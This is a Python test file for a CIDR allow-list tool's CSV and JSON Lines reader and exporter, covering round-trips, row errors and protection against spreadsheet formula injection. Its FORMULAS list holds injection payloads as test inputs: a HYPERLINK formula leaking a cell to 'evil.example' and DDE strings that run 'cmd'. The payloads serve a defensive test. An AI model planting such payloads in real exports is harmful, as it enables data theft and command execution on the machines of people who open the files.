"""Reading rows of CSV and JSON Lines: what is wrong, in which line, and whose it is."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given, strategies as st

from cidrgate import Entry, NewEntry
from cidrgate.cli.errors import CommandError
from cidrgate.cli.list_files import ListFormat, Row, read_rows, written
from cidrgate.rules.account_names import could_name_account

RUN = "=+-@|%\uff1d\uff0b\uff0d\uff20"
"""What a formula begins with, or a call of another program."""
AWKWARD = st.sampled_from([*RUN, *"'\" \t\r\n;,ab1", "\ufeff", "\u200b", "\u3000", "\x0b"])
TEXTS = st.text(AWKWARD | st.characters(exclude_categories=["Cs"]), max_size=12)

FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A-3+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    '"\'" =1+1',
    "\ufeff=1+1",
    "\uff1d1+1",
    "office;=1+1",
    "office;' =1+1",
    "office\t=1+1",
    "office\n=1+1",
    "office\r\n@SUM(1)",
    "a|=1",
]


def rows(text: str, form: ListFormat) -> list[Row]:
    return list(read_rows(text.splitlines(keepends=True), form))


def exported(account: str, label: str | None, form: ListFormat = ListFormat.CSV) -> str:
    entry = Entry(
        id=1,
        account=account,
        cidr="8.8.8.0/24",
        label=label,
        created_at=datetime(2025, 1, 2, tzinfo=UTC),
        created_by=None,
    )
    return "".join(written([[entry]], form))


@pytest.mark.parametrize("form", list(ListFormat))
@given(account=TEXTS.filter(could_name_account), label=st.none() | TEXTS)
def test_what_is_written_is_read_back_exactly(form: ListFormat, account: str, label: str | None) -> None:
    """Whatever an earlier version stored."""
    [row] = read_rows(io.StringIO(exported(account, label, form), newline=""), form)
    assert (row.account, row.entry.cidr, row.entry.label, row.problem) == (account, "8.8.8.0/24", label or None, "")


def begins_as_formula(cell: str) -> bool:
    return cell.lstrip(' \t\r\n\x0b\x0c\u00a0\u3000\ufeff\u200b"').startswith(tuple(RUN))


def assert_not_run(text: str) -> None:
    """No cell begins as a formula, whichever character a spreadsheet takes for what separates cells."""
    for separator in ",;\t|":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(map(begins_as_formula, row))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_spreadsheet_runs_no_cell(formula: str) -> None:
    text = exported("acct-1", formula)
    [_, *rows_of_file] = csv.reader(text.splitlines(keepends=True))
    assert rows_of_file[0][2] != formula
    assert not any(map(begins_as_formula, rows_of_file[0]))
    assert_not_run(text)
    [row] = read_rows(text.splitlines(keepends=True), ListFormat.CSV)
    assert row.entry.label == formula
    if could_name_account(formula):
        assert_not_run(exported(formula, None))


@given(account=TEXTS.filter(could_name_account), label=TEXTS)
def test_a_spreadsheet_runs_nothing_whatever_the_separator(account: str, label: str) -> None:
    assert_not_run(exported(account, label))


def test_a_file_by_hand_is_read_as_it_is() -> None:
    text = "account,cidr,label\n-a,8.8.8.0/24,=1+1\n'tis,8.8.8.0/24,'quoted'\no'brien,8.8.8.0/24,a - b\n"
    assert [(row.account, row.entry.label) for row in rows(text, ListFormat.CSV)] == [
        ("-a", "=1+1"),
        ("'tis", "'quoted'"),
        ("o'brien", "a - b"),
    ]


def test_a_row_over_several_lines_has_the_number_of_its_first() -> None:
    text = 'account,cidr,label\r\na,8.8.8.0/24,"two\r\nlines"\r\n\r\nb,9.9.9.0/24,\r\n'
    assert rows(text, ListFormat.CSV) == [
        Row(2, "a", NewEntry("8.8.8.0/24", label="two\r\nlines")),
        Row(5, "b", NewEntry("9.9.9.0/24", label=None)),
    ]


def test_columns_in_any_order_and_case_without_label() -> None:
    assert rows(" CIDR ,Account\n8.8.8.0/24,a\n", ListFormat.CSV) == [Row(2, "a", NewEntry("8.8.8.0/24"))]


@pytest.mark.parametrize(
    ("row", "account", "problem"),
    [
        ("w", "w", "cidr is missing"),
        ("w,,", "w", "cidr is missing"),
        (",8.8.8.0/24,", None, "account is missing"),
        ("w,8.8.8.0/24,l,extra", "w", "4 cells for 3 columns"),
        ('w,"8.8.8.0/24"x,', "w", "not valid CSV"),
        ("w,8.8.8.0/24,\udce9", "w", "UTF-8"),
        ("\udcff,8.8.8.0/24,", None, "UTF-8"),
        ("w," + "9" * 200_000 + ",", "w", "not valid CSV"),
    ],
    ids=range(8),
)
def test_bad_csv_rows(row: str, account: str | None, problem: str) -> None:
    first, bad, last = rows(f"account,cidr,label\ng,8.8.8.0/24,\n{row}\nh,8.8.8.0/24,\n", ListFormat.CSV)
    assert (bad.line, bad.account) == (3, account)
    assert problem in bad.problem
    assert (first.problem, last.problem, last.line) == ("", "", 4)


@pytest.mark.parametrize(
    ("row", "account", "problem"),
    [
        ("{", None, "not valid JSON"),
        ("[1]", None, "not a JSON object"),
        ("null", None, "not a JSON object"),
        ('{"account": "w", "cidr": ', "w", "not valid JSON"),
        ('{"account": "w"}', "w", "cidr is missing"),
        ('{"cidr": "8.8.8.0/24"}', None, "account is missing"),
        ('{"account": 1, "cidr": "8.8.8.0/24"}', None, "not text"),
        ('{"account": "w", "cidr": 5}', "w", "not text"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "label": 5}', "w", "not text"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "note": "x"}', "w", "the field 'note' is unknown"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "label": "\\ud800"}', "w", "UTF-8"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "label": "\udce9"}', "w", "UTF-8"),
        ("[" * 100_000, None, "not valid JSON"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "cidr": "9.9.9.9/32"}', "w", "the field 'cidr' is repeated"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "label": "x", "label": "x"}', "w", "the field 'label' is repeated"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "note": 1, "note": 1}', "w", "the field 'note' is repeated"),
        ('{"account": "w", "account": "v", "cidr": "8.8.8.0/24"}', None, "the field 'account' is repeated"),
        ('{"account": "w", "cidr": "8.8.8.0/24", "label": {"a": 1, "a": 2}}', None, "the field 'a' is repeated"),
    ],
    ids=range(18),
)
def test_bad_json_rows(row: str, account: str | None, problem: str) -> None:
    good = '{"account": "g", "cidr": "8.8.8.0/24", "label": null}'
    first, bad, last = rows(f"{good}\r\n\r\n{row}\n{good}", ListFormat.JSONL)
    assert (bad.line, bad.account) == (3, account)
    assert problem in bad.problem
    assert (first.problem, last.problem, last.line) == ("", "", 4)


@pytest.mark.parametrize(
    ("text", "form", "problem"),
    [
        ("", ListFormat.CSV, "empty"),
        ("a,8.8.8.0/24,\n", ListFormat.CSV, "first line"),
        ("account,label\n", ListFormat.CSV, "first line"),
        ("account,cidr,cidr\n", ListFormat.CSV, "repeated"),
        ("account,cidr,valid until\n", ListFormat.CSV, "'valid until' may restrict entries"),
        ("account;cidr,label\n", ListFormat.CSV, "first line"),
        ('account,cidr,label\na,8.8.8.0/24,"open\nb,9.9.9.0/24,\n', ListFormat.CSV, "quote"),
        (
            'account,cidr,label\na,8.8.8.0/24, "open\nb,9.9.9.0/24,x"\n',
            ListFormat.CSV,
            "line 2 has a quote with spaces",
        ),
        (
            'account,cidr,label\na,8.8.8.0/24,\t"open\nb,9.9.9.0/24,x"\n',
            ListFormat.CSV,
            "line 2 has a quote with spaces",
        ),
        (
            'account,label,cidr\na,"x\ny", "8.8.8.0/24\nb,9.9.9.0/24,x\n',
            ListFormat.CSV,
            "line 2 has a quote with spaces",
        ),
        ('[{"account": "a", "cidr": "8.8.8.0/24"}]', ListFormat.JSONL, "brackets"),
    ],
    ids=range(11),
)
def test_files_that_are_none(text: str, form: ListFormat, problem: str) -> None:
    with pytest.raises(CommandError, match=problem):
        rows(text, form)
